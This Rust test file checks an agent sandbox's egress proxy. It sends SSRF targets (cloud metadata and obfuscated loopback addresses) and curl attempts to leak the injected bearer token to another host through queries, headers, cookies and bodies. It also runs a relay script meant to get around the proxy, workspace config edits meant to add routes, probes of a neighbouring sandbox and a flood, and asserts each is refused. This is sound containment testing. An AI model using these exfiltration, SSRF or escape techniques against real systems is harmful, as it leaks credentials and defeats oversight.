//! What the proxies let through and what not, as the agent and the far end see it. All hosts that are asked for are either at the
//! far end, by `connect`, or in no row: those are refused before any lookup or dial.

use std::fs;
use std::thread;
use std::time::Duration;

use bottle_test_support::warden::Ending;

use crate::life::support::send;
use crate::net::world::{NAME, TOKEN, World, users};

const ASK: &str = include_str!("ask.py");

/// The questions, asked in the bytes that they are given in; each answer beside its question.
#[track_caller]
fn asked(world: World, questions: &[&str]) -> (World, Vec<String>) {
    let world = world.file("questions", &questions.join("\n"));
    let said = world.said("/usr/bin/python3 ask.py <questions");
    (world, said.lines().map(str::to_owned).collect())
}

fn world(user: Option<u32>) -> World {
    World::new(user)
        .route("echo.test", &format!(", auth: {{ token_ref: {TOKEN} }}"))
        .route("other.test", "")
        .file("ask.py", ASK)
        .ready("provider: shell")
}

/// Every question has the same answer.
#[track_caller]
fn all_are(answer: &str, questions: &[String]) {
    for user in users() {
        let (world, answers) = asked(world(user), &questions.iter().map(String::as_str).collect::<Vec<_>>());
        let other: Vec<_> = answers.iter().filter(|line| !line.ends_with(&format!("-> {answer}"))).collect();
        assert!(answers.len() == questions.len() && other.is_empty(), "as {user:?}: {other:#?}");
        assert_eq!((world.since(0), world.origin.connections()), (vec![], vec![]), "somebody was asked");
    }
}

fn in_each_form(hosts: &[&str]) -> Vec<String> {
    hosts.iter().flat_map(|host| ["connect", "absolute"].map(|form| format!("{form} {host}"))).collect()
}

// covers: N06 N08
#[test]
fn an_address_that_is_in_no_row_is_refused_before_it_is_dialled() {
    all_are(
        "403 host_not_listed",
        &in_each_form(&[
            "169.254.169.254",
            "100.100.100.200",
            "metadata.google.internal",
            "10.0.0.1",
            "127.0.0.1",
            "192.168.0.1",
            "0.0.0.0",
            "[fd00:ec2::254]",
            "[::1]",
            "[fe80::1]",
            "[::ffff:127.0.0.1]",
            "[64:ff9b::7f00:1]",
            "ip6-localhost",
            "unlisted.test",
            "echo.test.evil.test",
            "evil-echo.test",
        ]),
    );
}

// covers: N15
#[test]
fn the_proxy_does_not_lead_to_itself() {
    all_are(
        "403 self_request",
        &in_each_form(&["egress:9099", "pipelock:8888", "127.0.0.1:9099", "[::1]:9099", "localhost", "supervise:9100"]),
    );
}

// covers: N07
#[test]
fn an_address_in_a_strange_spelling_is_refused() {
    for user in users() {
        let hosts = [
            "2130706433",
            "0x7f000001",
            "0177.0.0.1",
            "127.1",
            "0",
            "127.0.0.1.",
            "localhost.",
            "%31%32%37.0.0.1",
            "[fe80::1%25lo]",
            "１２７.0.0.1",
        ];
        let questions = in_each_form(&hosts);
        let (world, answers) = asked(world(user), &questions.iter().map(String::as_str).collect::<Vec<_>>());
        let let_in: Vec<_> = answers.iter().filter(|line| !line.contains("-> 403 ") && !line.contains("-> 400 ")).collect();
        assert!(answers.len() == questions.len() && let_in.is_empty(), "as {user:?}: {let_in:#?}");
        assert_eq!(world.origin.connections(), []);
    }
}

// covers: H01
#[test]
fn one_connection_has_one_name() {
    for user in users() {
        let (world, answers) = asked(
            world(user),
            &[
                "tls echo.test echo.test /fine",
                "tls echo.test other.test",
                "tls other.test echo.test",
                "tls echo.test unlisted.test",
                "host echo.test other.test",
                "host echo.test unlisted.test",
                "host echo.test echo.test:444",
            ],
        );
        assert_eq!(
            answers.iter().map(|line| line.split("-> ").nth(1).unwrap_or_default()).collect::<Vec<_>>(),
            [&["200"][..], &["421 origin_mismatch"; 6]].concat(),
            "as {user:?}: {answers:#?}"
        );
        assert_eq!(world.since(0).iter().map(|request| request.target.as_str()).collect::<Vec<_>>(), ["/fine"]);
    }
}

// covers: S12
#[test]
fn another_port_another_scheme_and_no_tls_get_no_credential() {
    for user in users() {
        let (world, answers) =
            asked(world(user), &["connect echo.test:8443", "absolute echo.test:8443", "raw echo.test", "absolute echo.test@evil.test"]);
        assert_eq!(
            answers,
            [
                "connect echo.test:8443 -> 403 port_not_listed",
                "absolute echo.test:8443 -> 403 port_not_listed",
                "raw echo.test -> 403 opaque_tunnel",
                "absolute echo.test@evil.test -> 400 ambiguous_target",
            ],
            "as {user:?}"
        );
        assert_eq!(world.since(0), []);
    }
}

// covers: S11
#[test]
fn a_redirect_is_the_agents_to_follow_and_takes_no_credential_along() {
    for user in users() {
        let world = world(user);
        let said = world.said(
            "for status in 301 302 303 307 308; do
               for to in other.test unlisted.test; do
                 curl -sS -L -o /dev/null -w '%{http_code} ' \"https://echo.test/redirect?status=$status&to=https%3A%2F%2F$to%2Fx\"
               done
             done 2>/dev/null; true",
        );
        assert_eq!(said, "200 403 ".repeat(5));
        let token = format!("Bearer {}", world.token.value());
        for request in world.since(0) {
            let expected = (request.server_name.as_deref() == Some("echo.test")).then_some(token.as_str());
            assert_eq!(request.header("authorization"), expected, "{}", request.target);
        }
        assert_eq!(world.since(0).len(), 15);
    }
}

// covers: D01 Y06 H20
#[test]
fn the_token_that_the_proxy_puts_in_is_refused_from_the_agent() {
    let turned = |text: &str| -> String {
        let turn = |c: char, first: u8| char::from((c as u8 - first + 13) % 26 + first);
        text.chars()
            .map(|c| {
                if c.is_ascii_lowercase() {
                    turn(c, b'a')
                } else if c.is_ascii_uppercase() {
                    turn(c, b'A')
                } else {
                    c
                }
            })
            .collect()
    };
    for user in users() {
        let world = world(user);
        // Turned by thirteen letters, so that the arguments of this run hold no secret.
        let said = world.said(&format!(
            "t=$(echo {} | tr 'A-Za-z' 'N-ZA-Mn-za-m')
             ask() {{ curl -sS -k -o /dev/null -w '%{{http_code}}\\n' \"$@\"; }}
             ask https://other.test/fine
             ask \"https://other.test/?q=$t\"
             ask \"https://other.test/$t\"
             ask -H \"x-note: $t\" https://other.test/header
             ask -H \"cookie: a=$t\" https://other.test/cookie
             ask -d \"$t\" https://other.test/body
             ask -d \"{{\\\"$t\\\": 1}}\" https://other.test/key
             ask -d \"$(printf %s $t | base64 -w0)\" https://other.test/base64
             ask -F \"a=@-;filename=$t\" https://other.test/form </dev/null
             ask https://echo.test/fine",
            turned(world.token.value())
        ));
        let answers: Vec<_> = said.lines().collect();
        assert_eq!((answers.first(), answers.last(), answers.len()), (Some(&"200"), Some(&"200"), 10), "as {user:?}: {said}");
        assert!(answers[1..9].iter().all(|status| *status != "200"), "as {user:?}: {said}");
        let heard: Vec<_> = world.since(0).into_iter().filter(|request| request.complete).map(|request| request.target).collect();
        assert_eq!(heard, ["https://other.test/fine", "https://echo.test/fine"]);
    }
}

// covers: F21
#[test]
fn what_the_agent_writes_into_its_workspace_changes_no_rule() {
    for user in users() {
        let world = world(user);
        let ended = world.sh("mkdir -p .bottle/agents .bottle/bottles config/bottle/bottles
             for d in .bottle/bottles config/bottle/bottles; do
               printf -- '---\\negress:\\n  routes:\\n    - host: unlisted.test\\n---\\n' > $d/t.md
             done
             printf 'unlisted.test connect probe\\n' > .bottle/agents/t.md
             echo 'connect unlisted.test' | /usr/bin/python3 ask.py");
        assert_eq!(ended.stdout, "connect unlisted.test -> 403 host_not_listed\n", "{}", ended.stderr);
        assert!(ended.stderr.contains(".bottle/bottles/t.md: bottle reads it"), "{}", ended.stderr);
    }
}

// covers: N16
#[test]
fn a_relay_of_the_agents_own_changes_no_verdict() {
    const RELAY: &str = "import socket, threading
server = socket.create_server(('127.0.0.1', 1234))
print('up', flush=True)
def copy(a, b):
    try:
        while data := a.recv(65536): b.sendall(data)
        b.shutdown(socket.SHUT_WR)
    except OSError: pass
def serve(a):
    b = socket.create_connection(('egress', 9099))
    threading.Thread(target=copy, args=(a, b), daemon=True).start()
    copy(b, a)
while True: threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
";
    for user in users() {
        let world = world(user).file("relay.py", RELAY);
        let said = world.said(
            "mkfifo /tmp/up; /usr/bin/python3 relay.py >/tmp/up & read -r line </tmp/up; echo $line
             export HTTPS_PROXY=http://127.0.0.1:1234
             printf 'connect unlisted.test\\nabsolute 127.0.0.1\\ntls echo.test echo.test /fine\\n' | /usr/bin/python3 ask.py",
        );
        assert_eq!(
            said,
            "up\nconnect unlisted.test -> 403 host_not_listed\nabsolute 127.0.0.1 -> 403 host_not_listed\ntls echo.test echo.test /fine -> 200\n"
        );
    }
}

// covers: N13
#[test]
fn two_bottles_do_not_see_each_other() {
    for user in users() {
        let mut one = world(user);
        let other = world(user);
        let serve = "/usr/bin/python3 -c \"
import os, socket, subprocess
tcp = [socket.create_server((a, 7777), family=f) for f, a in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::'))]
unix = socket.socket(socket.AF_UNIX); unix.bind('\\0one'); unix.listen()
open('/tmp/one', 'w').close(); open('/dev/shm/one', 'w').close()
subprocess.run(['curl', '-sS', '-o', '/dev/null', 'https://echo.test/sse?n=1&release=end'], check=True)
for s in [*tcp, unix]:
    s.setblocking(False)
    try: s.accept(); print('somebody came')
    except BlockingIOError: pass
\"";
        let World { origin, bottle, .. } = &mut one;
        let (first, second) = thread::scope(|scope| {
            let bottle = &*bottle;
            let run = scope.spawn(move || bottle.run(["start", NAME, "--yes", "--headless", "--", "/bin/sh", "-c", serve]));
            origin.wait_for(1, Duration::from_secs(30));
            let look = other.said(
                "/usr/bin/python3 -c \"
import os, socket
def at(family, address):
    try: socket.socket(family).connect(address); print('connected', address)
    except OSError as error: print(type(error).__name__)
at(socket.AF_INET, ('127.0.0.1', 7777)); at(socket.AF_INET6, ('::1', 7777)); at(socket.AF_UNIX, '\\0one')
print(os.path.exists('/tmp/one'), os.path.exists('/dev/shm/one'))
print(sum(pid.isdigit() for pid in os.listdir('/proc')))
\"",
            );
            origin.release("end", 1).expect("the far end takes orders");
            (run.join().expect("the run ends"), look)
        });
        first.expect(0, "", "");
        assert_eq!(second, "ConnectionRefusedError\nConnectionRefusedError\nConnectionRefusedError\nFalse False\n3\n");
    }
}

// covers: N23 L28
#[test]
fn an_agent_that_floods_from_its_first_to_its_last_instruction_gets_no_packet_past_the_door() {
    const FLOOD: &str = "import os, socket, ssl, threading, urllib.request
port = int(os.environ['FAR_END'])
def around():
    while True:
        try: socket.create_connection(('127.0.0.1', port), 1).sendall(b'past the door')
        except OSError: pass
def through():
    while True:
        try: urllib.request.urlopen('https://echo.test/flood', timeout=5).read()
        except OSError: pass
for target in (around, through, through): threading.Thread(target=target).start()
print('up', flush=True)
";
    for user in users() {
        // The door never dials this one: whoever comes there has gone around it.
        let far_end = |world: &World| world.origin.ready().http.port().to_string();
        let world = World::new(user).route("echo.test", "").file("flood.py", FLOOD);
        let port = far_end(&world);
        let world = world.setting(&format!("env: {{ FAR_END: \"{port}\" }}")).ready("provider: shell");
        let mut seen = 0;
        for (signal, wait) in [(libc::SIGTERM, 3), (libc::SIGHUP, 1), (libc::SIGTERM, 0), (libc::SIGHUP, 5), (libc::SIGTERM, 2)] {
            let run = world.bottle.start(["start", NAME, "--yes", "--headless", "--", "/usr/bin/python3", "flood.py"]);
            run.said("up\n");
            world.origin.wait_for(seen + wait, Duration::from_secs(30));
            let before = world.bottle.path().join("state/bottle");
            send(run.pid(), signal);
            assert_eq!(run.end().ending, Ending::Code(128 + signal));
            // What the far end saw, the door has recorded: nobody passed it after it was gone.
            let requests = world.origin.requests().len();
            let newest = fs::read_dir(&before).unwrap().filter_map(|entry| {
                let directory = entry.unwrap().path();
                let log = fs::read_to_string(directory.join("logs/pipelock.jsonl")).ok()?;
                Some((fs::metadata(directory.join("metadata.json")).ok()?.modified().ok()?, log))
            });
            let log = newest.max_by_key(|(modified, _)| *modified).expect("the run has a log").1;
            let recorded = log.lines().filter(|line| line.contains("\"dialled\":")).count();
            assert!(requests - seen <= recorded, "{} requests came, {recorded} were recorded: {log}", requests - seen);
            seen = requests;
        }
        let around: Vec<_> = world.origin.connections().into_iter().filter(|c| c.listener == "http").collect();
        assert_eq!(around.len(), 0, "{around:?}");
        assert!(seen > 10, "the flood came through the door: {seen}");
    }
}
